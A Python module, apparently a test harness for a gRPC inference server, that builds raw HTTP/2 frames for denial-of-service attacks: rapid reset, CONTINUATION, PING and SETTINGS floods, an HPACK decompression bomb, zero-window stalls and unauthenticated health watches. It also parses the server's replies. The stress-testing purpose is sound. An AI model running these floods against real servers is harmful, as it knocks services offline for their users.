"""The bytes of attacks over HTTP/2, and what a server's frames say.

Frames are hyperframe's and header blocks hpack's. Each function yields what one connection writes,
and holds no socket.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

import grpc
from h2.errors import ErrorCodes
from hpack import Decoder, Encoder, HPACKError
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from autoglm import v1

Writes = Callable[[str], Iterator[bytes]]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GENERATE = "/autoglm.v1.Inference/Generate"
GENERATE_STREAM = "/autoglm.v1.Inference/GenerateStream"
WATCH = "/grpc.health.v1.Health/Watch"
RESETS, WATCHES, PINGS, SETTINGS = 10_000, 100, 50_000, 50_000
CONTINUATIONS, FRAME_BYTES = 5_000, 16_384
BOMBS, BOMB_VALUE, BOMB_REFERENCES = 20, 3_900, 8_000
UNREAD_STREAMS, UNREAD_TOKENS = 20, 20_000
_TOGETHER = 100
_HEAD = 9
# The first entry of HPACK's dynamic table, as an indexed field of one byte.
_NEWEST = b"\xbe"
_CODES = {str(code.value[0]): code.name for code in grpc.StatusCode}


def rapid_reset(_: str) -> Iterator[bytes]:
    """Yield streams that are reset in the moment in which they are opened."""
    encoder = Encoder()
    yield opening()
    for first in range(0, RESETS, _TOGETHER):
        yield b"".join(
            headers(encoder, stream, GENERATE)
            + RstStreamFrame(stream, error_code=ErrorCodes.CANCEL).serialize()
            for stream in _streams(first, _TOGETHER)
        )


def watches(_: str) -> Iterator[bytes]:
    """Yield health watches without a credential, which stay open."""
    encoder = Encoder()
    yield opening()
    for stream in _streams(0, WATCHES):
        yield headers(encoder, stream, WATCH) + message(stream, b"")


def continuation_flood(_: str) -> Iterator[bytes]:
    """Yield a header block that never ends."""
    yield opening()
    yield HeadersFrame(1, Encoder().encode(_fields(GENERATE))).serialize()
    literal = b"\x00" + _string(b"x-filler") + _string(b"y" * 100)
    block = literal * (FRAME_BYTES // len(literal))
    for _unused in range(CONTINUATIONS):
        yield ContinuationFrame(1, block).serialize()


def ping_flood(_: str) -> Iterator[bytes]:
    yield opening()
    pings = PingFrame(0, b"attacked").serialize() * _TOGETHER
    for _unused in range(0, PINGS, _TOGETHER):
        yield pings


def settings_flood(_: str) -> Iterator[bytes]:
    """Yield settings that change the window of all streams each time."""
    yield opening()
    for number in range(0, SETTINGS, _TOGETHER):
        yield b"".join(
            SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535 + size}).serialize()
            for size in range(number, number + _TOGETHER)
        )


def hpack_bomb(_: str) -> Iterator[bytes]:
    """Yield blocks of some kilobytes that each decode to 31 MB."""
    encoder = Encoder()
    yield opening()
    bomb = ("x-bomb", "b" * BOMB_VALUE)
    for stream in _streams(0, BOMBS):
        block = encoder.encode([*_fields(GENERATE), bomb], huffman=False)
        block += _NEWEST * BOMB_REFERENCES
        yield HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()


def zero_window(key: str) -> Iterator[bytes]:
    """Yield streams whose responses never get a window."""
    encoder = Encoder()
    yield opening({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    sampling = v1.SamplingParams(max_tokens=UNREAD_TOKENS, ignore_eos=True)
    request = v1.GenerateRequest(model="echo", text="word " * 50, sampling_params=sampling)
    for stream in _streams(0, UNREAD_STREAMS):
        opened = headers(encoder, stream, GENERATE_STREAM, ("x-api-key", key))
        yield opened + message(stream, request.SerializeToString())


def opening(settings: dict[int, int] | None = None) -> bytes:
    """Return what a client sends first."""
    ack = SettingsFrame(0, flags=["ACK"]).serialize()
    return PREFACE + SettingsFrame(0, settings or {}).serialize() + ack


def headers(encoder: Encoder, stream: int, path: str, *more: tuple[str, str]) -> bytes:
    block = encoder.encode([*_fields(path), *more])
    return HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()


def message(stream: int, payload: bytes) -> bytes:
    """Return a gRPC message that ends the client's side of the stream."""
    framed = b"\x00" + len(payload).to_bytes(4, "big") + payload
    return DataFrame(stream, framed, flags=["END_STREAM"]).serialize()


def _fields(path: str) -> list[tuple[str, str]]:
    return [
        *((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")),
        *(("te", "trailers"), ("content-type", "application/grpc")),
    ]


def _streams(first: int, count: int) -> range:
    return range(1 + 2 * first, 1 + 2 * (first + count), 2)


def _string(text: bytes) -> bytes:
    """Return an HPACK string of fewer than 127 bytes, without Huffman coding."""
    return len(text).to_bytes(1, "big") + text


class Reader:
    """Reads a server's frames from bytes as they come."""

    def __init__(self) -> None:
        self._rest = b""
        self._decoder = Decoder()

    def feed(self, data: bytes) -> Iterator[str]:
        """Yield the status of each response, and the code of each RST_STREAM and GOAWAY."""
        self._rest += data
        while len(self._rest) >= _HEAD:
            try:
                frame, length = Frame.parse_frame_header(memoryview(self._rest[:_HEAD]))
                if len(self._rest) < _HEAD + length:
                    return
                frame.parse_body(memoryview(self._rest[_HEAD : _HEAD + length]))
                self._rest = self._rest[_HEAD + length :]
                yield from self._of(frame)
            except (HyperframeError, HPACKError) as error:
                self._rest = b""
                yield f"unreadable frame: {type(error).__name__}"

    def _of(self, frame: Frame) -> Iterator[str]:
        match frame:
            case HeadersFrame():
                fields = dict(self._decoder.decode(frame.data, raw=True))
                if (code := fields.get(b"grpc-status", b"").decode()) != "":
                    yield _CODES.get(code, code)
                elif (status := fields.get(b":status", b"200").decode()) != "200":
                    yield status
            case RstStreamFrame():
                yield f"RST_STREAM {_name(frame.error_code)}"
            case GoAwayFrame():
                text = frame.additional_data.decode(errors="replace")[:40]
                yield f"GOAWAY {_name(frame.error_code)} {text}".strip()


def _name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)
